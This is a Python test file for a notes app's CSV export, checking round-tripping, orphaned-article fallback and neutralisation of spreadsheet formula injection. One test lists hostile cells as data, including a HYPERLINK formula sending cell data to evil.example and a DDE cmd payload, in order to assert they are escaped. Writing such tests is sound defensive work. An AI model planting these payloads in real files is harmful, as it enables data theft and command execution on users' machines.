"""CSV: a table the csv module reads back."""
from __future__ import annotations

import csv
import io

from reader.core.export import CSV_HEADER, to_csv
from reader.core.model import ORPHANED
from tests.core.export.helpers import ARTICLES, make_note


def test_csv_round_trips_through_the_csv_module(notes):
    tricky = make_note(5, body='He said "no", then\nleft.', exact="a, b\nc", tags=["x", "y z"])
    text = to_csv([*notes, tricky], ARTICLES)
    assert not text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == CSV_HEADER
    assert len(rows) == len(notes) + 1
    last = rows[-1]
    assert last["note"] == 'He said "no", then\nleft.'
    assert last["quote"] == "a, b\nc"
    assert last["tags"].split("; ") == ["x", "y z"]
    assert last["article_title"] == "France will now hold its nose"
    assert (last["start"], last["end"], last["score"]) == ("50", "55", "1.0")
    oil = rows[2]
    assert (oil["article_title"], oil["article_path"], oil["color"]) == (
        'Oil: a "new" era?', "/lib/oil.md", "blue")
    assert rows[3]["status"] == ORPHANED
    assert rows[1]["created"] == notes[1].created


def test_csv_orphaned_article_falls_back_to_the_note():
    note = make_note(1, article_id="dead" * 4, article_title="Gone", article_path="/g.txt")
    [row] = list(csv.DictReader(io.StringIO(to_csv([note], {}), newline="")))
    assert (row["article_title"], row["article_path"]) == ("Gone", "/g.txt")


def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text():
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
               "-2+3", "@SUM(A1:A9)", "\tlead", "\rlead"]
    notes = [make_note(i, exact=cell, body=cell, tags=[cell.strip() or "x"],
                       article_title=cell, article_id="dead" * 4) for i, cell in enumerate(hostile)]
    rows = list(csv.DictReader(io.StringIO(to_csv(notes, {}), newline="")))
    for row, cell in zip(rows, hostile, strict=True):
        assert row["quote"] == row["note"] == row["article_title"] == "'" + cell
        assert not row["tags"].startswith(("=", "+", "-", "@"))
    plain = make_note(9, exact="Putin said = nothing", body="a - b", article_id="dead" * 4)
    [row] = list(csv.DictReader(io.StringIO(to_csv([plain], {}), newline="")))
    assert (row["quote"], row["note"]) == ("Putin said = nothing", "a - b")  # only a leading sign
